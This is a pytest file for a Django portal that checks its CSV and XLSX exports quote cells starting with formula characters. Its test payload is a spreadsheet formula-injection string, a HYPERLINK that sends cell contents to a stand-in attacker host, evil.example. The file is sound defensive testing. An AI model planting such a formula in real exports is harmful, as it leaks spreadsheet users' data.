"""No CSV or XLSX the portal writes can carry a formula (issue 13, item 5).

Each export is fetched through the real client (or run as the real job) with a
``=HYPERLINK(…)`` text placed where a user can type it, then read back with
``csv`` and openpyxl: the text comes back quoted (``'=HYPERLINK…``), no XLSX cell
is a formula, and no cell of either format begins with a formula character.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook

from negative_list.jobs import EXPORT
from portal import services as portal_services
from portal.exports import FORMULA_PREFIXES, safe_cell
from portal.jobs import run_pending
from portal.models import Job
from requests_ import services as rq_services
from requests_.models import Outcome
from tests.negative_list import factories as nl
from tests.requests_ import factories as rq
from tests.requests_.annual_report_builders import replied

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
QUOTED = "'" + FORMULA


def csv_cells(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return [cell for row in rows for cell in row]


def xlsx_cells(body: bytes) -> list:
    workbook = load_workbook(io.BytesIO(body))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def assert_inert_csv(body: bytes) -> None:
    """The payload is there, quoted; no cell begins a formula."""
    cells = csv_cells(body)
    assert QUOTED in cells
    assert FORMULA not in cells
    assert [c for c in cells if c.startswith(FORMULA_PREFIXES)] == []


def assert_inert_xlsx(body: bytes) -> None:
    """The payload is a string cell starting ``'=``; no cell is a formula."""
    cells = xlsx_cells(body)
    payload = [c for c in cells if c.value in (FORMULA, QUOTED)]
    assert payload, "the payload is missing from the workbook"
    for cell in payload:
        assert cell.data_type == "s"
        assert cell.value == QUOTED
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_PREFIXES)] == []


def body_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
    ids=["equals", "plus", "minus", "at", "tab", "cr"],
)
def test_a_text_that_could_start_a_formula_is_quoted(value):
    """Each OWASP prefix is neutralised with a single quote."""
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, "老旧小区", "1-2", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    """Numbers (negative ones too) and text not starting a formula are unchanged."""
    assert safe_cell(value) == value


@pytest.fixture
def column_item(matrix):
    """A published disclosure whose title, 文号 and summary start formulas."""
    editor, reviewer = matrix.user("editor_a"), matrix.user("reviewer_a")
    draft = rq.converted_draft(editor, matrix.agency_a, body="项目资金安排。")
    draft = rq_services.disclosure_update(
        actor=editor, disclosure=draft, title=FORMULA, doc_no="-1+1", summary="@SUM(1)"
    )
    draft = rq_services.disclosure_submit(actor=editor, disclosure=draft)
    return rq_services.disclosure_approve(actor=reviewer, disclosure=draft)


@pytest.fixture
def list_version(matrix):
    """Agency A's published list with an entry titled like a formula."""
    return nl.published_list(
        matrix.user("editor_a"),
        matrix.user("reviewer_a"),
        matrix.agency_a,
        [{"title": FORMULA, "notes": "+SUM(1,2)"}],
    )


def test_column_open_data_csv_and_xlsx_are_inert(client, column_item):
    """The column's open dataset quotes the title in CSV and XLSX; JSON keeps the
    text exactly (JSON is not a spreadsheet)."""
    assert_inert_csv(body_of(client.get("/open-data/disclosures.csv")))
    assert_inert_xlsx(body_of(client.get("/open-data/disclosures.xlsx")))
    rows = client.get("/open-data/disclosures.json").json()["rows"]
    assert [r["标题"] for r in rows] == [FORMULA]


def test_negative_list_open_data_is_inert(client, list_version):
    """The negative-list open dataset quotes the entry title."""
    assert_inert_csv(body_of(client.get("/open-data/negative-lists.csv")))
    assert_inert_xlsx(body_of(client.get("/open-data/negative-lists.xlsx")))


def test_list_version_downloads_are_inert(client, matrix, list_version):
    """A published version's public CSV and XLSX quote the entry title."""
    base = f"/negative-lists/{matrix.agency_a.code}/versions/{list_version.number}"
    assert_inert_csv(body_of(client.get(f"{base}/export.csv")))
    assert_inert_xlsx(body_of(client.get(f"{base}/export.xlsx")))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_workspace_list_export_job_is_inert(matrix, settings, list_version, fmt):
    """The workspace export job writes the working list without formulas."""
    settings.GONGKAI_JOBS_RUNNER = "worker"
    client = matrix.client("editor_a")
    client.post(
        "/workspace/negative-list/export/", {"agency": matrix.agency_a.pk, "fmt": fmt}
    )
    run_pending()
    job = Job.objects.get(kind=EXPORT)
    assert job.state == Job.State.SUCCEEDED, job.error
    body = body_of(client.get(f"/workspace/jobs/{job.pk}/download/"))
    (assert_inert_csv if fmt == "csv" else assert_inert_xlsx)(body)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_annual_report_exports_are_inert(matrix, fmt):
    """An agency named like a formula is quoted in the report's records to fix,
    and the figures stay numbers."""
    portal_services.agency_update(
        actor=matrix.user("coordinator"), agency=matrix.agency_a, name=FORMULA
    )
    replied(matrix.agency_a, dt.date(2025, 5, 10), dt.date(2025, 5, 2), Outcome.PARTIAL)
    query = urlencode({"agency": matrix.agency_a.code, "year": 2025})
    response = matrix.client("coordinator").get(
        f"/workspace/annual-report/export/{fmt}/?{query}"
    )
    body = body_of(response)
    if fmt == "csv":
        assert_inert_csv(body)
    else:
        assert_inert_xlsx(body)
        cells = xlsx_cells(body)
        numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
        assert numbers
        assert all(isinstance(v, int | float) for v in numbers)
